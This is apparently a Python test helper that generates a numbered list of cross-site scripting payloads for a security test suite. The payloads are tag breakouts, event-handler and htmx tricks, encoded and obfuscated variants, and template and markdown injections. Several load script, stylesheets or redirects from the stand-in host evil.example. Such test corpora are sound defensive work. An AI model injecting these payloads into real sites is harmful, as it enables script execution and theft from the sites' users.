"""Texts that run, fetch or swap something if any page lets them: each says its own number when it does."""

from __future__ import annotations

from itertools import product

from tests.security.payloads import ELEMENTS, PAYLOADS

BREAKS: tuple[str, ...] = (
    "",
    '">',
    "'>",
    "x>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</template>",
    "</a>",
    "-->",
    "</hx-partial>",
)
BREAKS += ("</select>", "</button>", "]]>", '\\">', "&quot;>", "`>")
TAGS = (
    "<img src=x onerror=ran({0})>",
    "<svg onload=ran({0})>",
    "<script>ran({0})</script>",
    "<script src=//evil.example/{0}.js></script>",
    "<iframe srcdoc='<script>parent.ran({0})</script>'></iframe>",
    "<iframe src=javascript:parent.ran({0})></iframe>",
    "<details open ontoggle=ran({0})>x</details>",
    "<input autofocus onfocus=ran({0})>",
    "<video src=x onerror=ran({0})></video>",
    "<img src=//evil.example/{0}.png>",
    "<link rel=stylesheet href=//evil.example/{0}.css>",
    "<style>@import '//evil.example/{0}.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{0}'>",
    "<base href=//evil.example/{0}/>",
    "<object data=//evil.example/{0}></object>",
    "<embed src=//evil.example/{0}>",
    "<div hx-get=//evil.example/{0} hx-trigger=load>x</div>",
    "<div hx-on:load=ran({0}) hx-trigger=load>x</div>",
    "<b hx-get=/ hx-trigger=load hx-vals='js:{{a:ran({0})}}'>x</b>",
    "<hx-partial hx-target=body><img src=x onerror=ran({0})></hx-partial>",
    "<template><img src=x onerror=ran({0})></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran({0})>",
    "<svg><animate onbegin=ran({0}) attributeName=x dur=1s>",
    "<marquee onstart=ran({0})>x</marquee>",
)
ATTRIBUTES = (
    '" onmouseover="ran({0})" x="',
    "' onmouseover='ran({0})' x='",
    '" autofocus onfocus=ran({0}) x="',
    '" style="animation:spin 1s" onanimationstart="ran({0})',
    '" hx-get="//evil.example/{0}" hx-trigger="load" x="',
    '" srcdoc="<script>parent.ran({0})</script>',
    '" src="//evil.example/{0}.png" x="',
    "javascript:ran({0})",
    "&lt;img src=x onerror=ran({0})&gt;",
    "&#60;img src=x onerror=ran({0})&#62;",
    "\\u003cimg src=x onerror=ran({0})\\u003e",
    "\\x3cimg src=x onerror=ran({0})\\x3e",
    "%3Cimg src=x onerror=ran({0})%3E",
    "\uff1cimg src=x onerror=ran({0})\uff1e",
    "<!--<script>ran({0})",
    '{{"a":"</script><img src=x onerror=ran({0})>"}}',
    "{{{{ ran({0}) }}}}",
    "${{ran({0})}}",
    "<%= ran({0}) %>",
    "[x](javascript:ran({0}))",
    "![x](//evil.example/{0}.png)",
    "![x](https://evil.example/{0}.png)",
    "<javascript:ran({0})>",
    "<svg/onload=ran({0})//",
    "<img src=x onerror=ran({0})//",
    "<img src=x onerror=&#114;an({0})>",
    "<img/src=x/onerror=ran({0})>",
    "<IMG SRC=x OnErRoR=ran({0})>",
    "<img src=`x`onerror=ran({0})>",
    "<im\u200bg src=x onerror=ran({0})>",
)


def list_scripts() -> list[str]:
    """Return every text, with its number where it says one."""
    made = [start + tag for tag, start in product(TAGS, BREAKS)] + list(ATTRIBUTES)
    numbered = [text.format(number) for number, text in enumerate(made)]
    known = (*ELEMENTS, *PAYLOADS[::2])
    plain = (
        "".join(one for one in text if one >= " ").replace("alert(1)", f"ran('{place}')")
        for place, text in enumerate(known)
    )
    return list(dict.fromkeys((*numbered, *plain)))
